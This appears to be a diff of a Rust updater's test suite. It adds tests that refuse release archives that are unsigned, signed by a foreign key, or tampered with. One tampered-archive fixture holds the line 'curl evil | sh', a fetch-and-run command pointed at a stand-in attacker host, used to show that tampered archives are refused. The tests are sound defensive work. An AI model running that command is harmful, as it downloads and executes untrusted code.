@@ -6,7 +6,8 @@ use std::time::{Duration, SystemTime};
 use serde_json::json;
 
 use super::testing::{
-    archive_of, build_archive, closed_port_url, gm_script, manifest_json, sha256_hex, Route, TestServer,
+    archive_of, build_archive, closed_port_url, gm_script, keypair, manifest_json, sha256_hex, sign,
+    signed_manifest_json, Route, TestServer,
 };
 use super::*;
 
@@ -44,11 +45,18 @@ struct Setup {
     server: TestServer,
     home: tempfile::TempDir,
     events: Addr<Collector>,
+    /// The key pair releases are signed with here: (public base64, secret key file text).
+    key: (String, String),
 }
 
 impl Setup {
     fn new() -> Setup {
-        Setup { server: TestServer::start(), home: tempfile::tempdir().unwrap(), events: Collector::default().start() }
+        Setup {
+            server: TestServer::start(),
+            home: tempfile::tempdir().unwrap(),
+            events: Collector::default().start(),
+            key: keypair(),
+        }
     }
 
     fn root(&self) -> PathBuf {
@@ -60,7 +68,12 @@ impl Setup {
     }
 
     fn config_for(&self, url: &str) -> Config {
-        Config::On { manifest_url: Url::parse(url).unwrap(), root: self.root(), every: Duration::from_secs(3600) }
+        Config::On {
+            manifest_url: Url::parse(url).unwrap(),
+            root: self.root(),
+            every: Duration::from_secs(3600),
+            keys: TrustedKeys::only(&[&self.key.0]).unwrap(),
+        }
     }
 
     fn spawn(&self) -> Addr<Updater> {
@@ -79,11 +92,29 @@ impl Setup {
         self.publish_bytes(version, etag, &sha, archive)
     }
 
-    /// Serves `archive` as version `version`'s, under a manifest giving `sha256` and its size.
+    /// Serves `archive` as version `version`'s, under a manifest giving `sha256`, its size and
+    /// its signature by this setup's key.
     fn publish_bytes(&self, version: &str, etag: &str, sha256: &str, archive: Vec<u8>) -> usize {
+        let signature = sign(&archive, &self.key.1);
+        self.publish_signed(version, etag, sha256, archive, Some(&signature))
+    }
+
+    /// Serves `archive` under a manifest giving `signature` (none: no `signature` field).
+    fn publish_signed(
+        &self,
+        version: &str,
+        etag: &str,
+        sha256: &str,
+        archive: Vec<u8>,
+        signature: Option<&str>,
+    ) -> usize {
         let name = format!("gmnew-{version}-{TARGET}.tar.gz");
         let size = archive.len();
-        self.server.serve(MANIFEST, manifest_json(version, TARGET, &name, sha256, size), Some(etag));
+        let manifest = match signature {
+            Some(sig) => signed_manifest_json(version, TARGET, &name, sha256, size, sig),
+            None => manifest_json(version, TARGET, &name, sha256, size),
+        };
+        self.server.serve(MANIFEST, manifest, Some(etag));
         self.server.serve(&format!("/rel/{name}"), archive, None);
         size
     }
@@ -307,7 +338,8 @@ async fn a_missing_archive_fails_the_check_and_the_next_check_tries_again() {
     let s = Setup::new();
     let name = format!("gmnew-99.0.0-{TARGET}.tar.gz");
     let archive = build_archive("99.0.0", TARGET, &gm_script("99.0.0"));
-    let manifest = manifest_json("99.0.0", TARGET, &name, &sha256_hex(&archive), archive.len());
+    let signature = sign(&archive, &s.key.1);
+    let manifest = signed_manifest_json("99.0.0", TARGET, &name, &sha256_hex(&archive), archive.len(), &signature);
     s.server.serve(MANIFEST, manifest, Some("\"v99\""));
     // The archive is not served yet: 404.
     let updater = s.spawn();
@@ -359,6 +391,51 @@ async fn leftovers_of_an_interrupted_download_are_removed() {
     s.publish("99.0.0", "\"e\"", None);
     assert!(matches!(s.spawn().send(WaitIdle).await.unwrap(), Outcome::Staged { .. }));
     assert_eq!(s.leftovers(), vec![recent]);
+}
+
+/// Checks that `outcome` refused the archive for its signature, that the refusal was logged,
+/// and that nothing was unpacked, staged or left behind.
+async fn assert_refused_for_its_signature(s: &Setup, outcome: Outcome, why: &str) {
+    let Outcome::Refused { refusal: Refusal::BadSignature(detail), .. } = &outcome else { panic!("{outcome:?}") };
+    assert!(detail.contains(why), "{detail}");
+    let events = s.take().await;
+    assert!(matches!(events.last(), Some(UpdateEvent::Refused { reason: "bad-signature", .. })), "{events:?}");
+    assert_eq!(s.staged_versions(), Vec::<String>::new());
+    assert!(!s.root().join("current").exists());
+    assert_eq!(s.leftovers(), Vec::<PathBuf>::new(), "nothing was unpacked, the download is gone");
+}
+
+#[actix_rt::test]
+async fn an_unsigned_archive_is_refused_before_it_is_unpacked() {
+    let s = Setup::new();
+    let archive = build_archive("99.0.0", TARGET, &gm_script("99.0.0"));
+    s.publish_signed("99.0.0", "\"e\"", &sha256_hex(&archive), archive, None);
+    let outcome = s.spawn().send(WaitIdle).await.unwrap();
+    assert_refused_for_its_signature(&s, outcome, "no signature").await;
+}
+
+#[actix_rt::test]
+async fn an_archive_signed_by_another_key_is_refused() {
+    let s = Setup::new();
+    let (_, attacker) = keypair();
+    let archive = build_archive("99.0.0", TARGET, &gm_script("99.0.0"));
+    let signature = sign(&archive, &attacker);
+    s.publish_signed("99.0.0", "\"e\"", &sha256_hex(&archive), archive, Some(&signature));
+    let outcome = s.spawn().send(WaitIdle).await.unwrap();
+    assert_refused_for_its_signature(&s, outcome, "not one gm trusts").await;
+}
+
+#[actix_rt::test]
+async fn a_tampered_archive_with_a_matching_sha256_is_refused_for_its_signature() {
+    let s = Setup::new();
+    // The release as signed, then replaced by an attacker who controls the manifest too: the
+    // sha256 and size are the new archive's, the signature is the release's.
+    let signed = build_archive("99.0.0", TARGET, &gm_script("99.0.0"));
+    let signature = sign(&signed, &s.key.1);
+    let tampered = build_archive("99.0.0", TARGET, "#!/bin/sh\necho gm 99.0.0; curl evil | sh\n");
+    s.publish_signed("99.0.0", "\"e\"", &sha256_hex(&tampered), tampered, Some(&signature));
+    let outcome = s.spawn().send(WaitIdle).await.unwrap();
+    assert_refused_for_its_signature(&s, outcome, "does not match").await;
 }
 
 #[cfg(unix)]
